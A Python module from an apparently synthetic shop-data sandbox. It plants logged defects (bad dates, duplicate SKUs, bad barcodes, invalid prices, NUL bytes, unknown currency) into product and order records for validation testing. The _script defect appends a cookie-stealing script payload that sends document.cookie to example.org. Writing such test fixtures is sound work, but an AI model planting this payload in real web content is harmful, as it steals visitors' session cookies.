"""Defects: known wrongs planted into bodies that are otherwise clean, each noted in the truth ledger.

In: the ids of a shop's rows and the rates. Out: a plan (row -> defect), and `spoil_*`, which change a body in place.
A row carries at most one defect; the variants of a product with a defect carry none.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from math import ceil
from random import Random

from sandbox.world import gtin
from sandbox.world.baskets import Sale
from sandbox.world.frames import Product, Variant
from sandbox.world.spec import DefectRates
from sandbox.world.truth import Truth
from sandbox.world.wire import Body, gid

BAD_INSTANT = "2026-13-45T99:61:00Z"
NO_CURRENCY = "XXX"
LONG = 5_000_000
_IMPOSSIBLE = {
    "eyewear.lens_width_mm": ("5.2", "520", "12", "-52"),
    "eyewear.bridge_mm": ("1.8", "180", "44"),
    "eyewear.temple_mm": ("14.5", "1450", "60"),
}


@dataclass
class Plan:
    """Which row gets which defect, by number."""

    variants: dict[int, str] = field(default_factory=dict)
    products: dict[int, str] = field(default_factory=dict)
    orders: dict[int, str] = field(default_factory=dict)
    skus: dict[int, str] = field(default_factory=dict)
    """variant -> the SKU it shares; the variant that had it first is in `variants` too"""


def plan(products: Sequence[Product], sales: Sequence[Sale], rates: DefectRates, truth: Truth, rng: Random) -> Plan:
    """Choose the rows and write them into `truth`."""
    chosen = Plan()
    frames = [product for product in products if product.kind != "gift_card"]
    _plan_products(frames, rates, chosen, rng)
    clean = [v for product in frames if product.id not in chosen.products for v in product.variants]
    _plan_variants(clean, rates, chosen, rng)
    pool = [sale.id for sale in sales[1:]]  # the canary's order stays clean: it is looked for
    rng.shuffle(pool)
    for defect, rate in (("malformed_date", rates.malformed_order_date), ("unknown_currency", rates.unknown_currency)):
        _take(pool, _many(rate, len(sales)), defect, chosen.orders)
    for entity, kind, rows in (
        ("variant", "ProductVariant", chosen.variants),
        ("product", "Product", chosen.products),
        ("order", "Order", chosen.orders),
    ):
        for number, defect in rows.items():
            truth.add(entity, gid(kind, number), defect)
    return chosen


def _plan_products(frames: Sequence[Product], rates: DefectRates, chosen: Plan, rng: Random) -> None:
    pool = [product.id for product in frames]
    rng.shuffle(pool)
    _take(pool, rates.description_too_long, "description_too_long", chosen.products)
    for defect in ("missing_title", "html_script", "nul_byte", "malformed_date"):
        _take(pool, _many(getattr(rates, defect), len(frames)), defect, chosen.products)


def _plan_variants(clean: Sequence[Variant], rates: DefectRates, chosen: Plan, rng: Random) -> None:
    pool = list(clean)
    rng.shuffle(pool)
    holders = max(2, _many(rates.duplicate_sku, len(clean))) if rates.duplicate_sku else 0
    while holders >= 2 and len(pool) >= 3:
        size = 3 if holders == 3 else 2  # never one left over: a SKU held once is no duplicate
        group = [pool.pop() for _ in range(size)]
        holders -= size
        for variant in group:
            chosen.variants[variant.id] = "duplicate_sku"
            chosen.skus[variant.id] = group[0].sku
    ids = [variant.id for variant in pool]
    for defect in ("gtin_check_digit", "price_not_positive", "compare_at_not_above_price", "impossible_mm"):
        _take(ids, _many(getattr(rates, defect), len(clean)), defect, chosen.variants)


def _many(rate: float, rows: int) -> int:
    return ceil(rate * rows)


def _take(pool: list[int], count: int, defect: str, into: dict[int, str]) -> None:
    for _ in range(min(count, len(pool))):
        into[pool.pop()] = defect


def spoil_variant(body: Body, item: Body, number: int, chosen: Plan) -> None:
    """Plant the variant's defect, if it has one, into its body (and the SKU into its inventory item)."""
    defect = chosen.variants.get(number)
    if defect == "duplicate_sku":
        body["sku"] = item["sku"] = chosen.skus[number]
    elif defect == "gtin_check_digit":
        body["barcode"] = gtin.spoil(body["barcode"], 1 + number % 9)
    elif defect == "price_not_positive":
        body["price"], body["compareAtPrice"] = ("0.00", "-12.00")[number % 2], None
    elif defect == "compare_at_not_above_price":
        body["compareAtPrice"] = (body["price"], "1.00")[number % 2]
    elif defect == "impossible_mm":
        key = list(_IMPOSSIBLE)[number % 3]
        values = _IMPOSSIBLE[key]
        body["metafields"][key] = values[number // 3 % len(values)]


def spoil_product(body: Body, number: int, chosen: Plan) -> None:
    """Plant the product's defect, if it has one."""
    defect = chosen.products.get(number)
    if defect:
        _PRODUCT[defect](body)


def _no_title(body: Body) -> None:
    body["title"] = ""


def _script(body: Body) -> None:
    body["descriptionHtml"] += "<script>document.location='https://example.org/?c='+document.cookie</script>"


def _long(body: Body) -> None:
    sentence = "<p>A frame that deserves many words.</p>"
    body["descriptionHtml"] = sentence * (LONG // len(sentence) + 1)


def _nul(body: Body) -> None:
    body["title"] = body["title"].replace(" ", " \x00", 1)


def _bad_date(body: Body) -> None:
    body["publishedAt"] = BAD_INSTANT


_PRODUCT: dict[str, Callable[[Body], None]] = {
    "missing_title": _no_title,
    "html_script": _script,
    "description_too_long": _long,
    "nul_byte": _nul,
    "malformed_date": _bad_date,
}


def spoil_order(body: Body, number: int, chosen: Plan) -> None:
    """Plant the order's defect, if it has one.

    An unknown currency stands in the order's codes and in its own totals, not in the money of its lines.
    """
    defect = chosen.orders.get(number)
    if defect == "malformed_date":
        body["processedAt"] = BAD_INSTANT
    elif defect == "unknown_currency":
        body["currencyCode"] = body["presentmentCurrencyCode"] = NO_CURRENCY
        for name, value in body.items():
            if name.endswith("Set") and isinstance(value, dict):
                unknown = {**value["shopMoney"], "currencyCode": NO_CURRENCY}
                body[name] = {"shopMoney": unknown, "presentmentMoney": unknown}
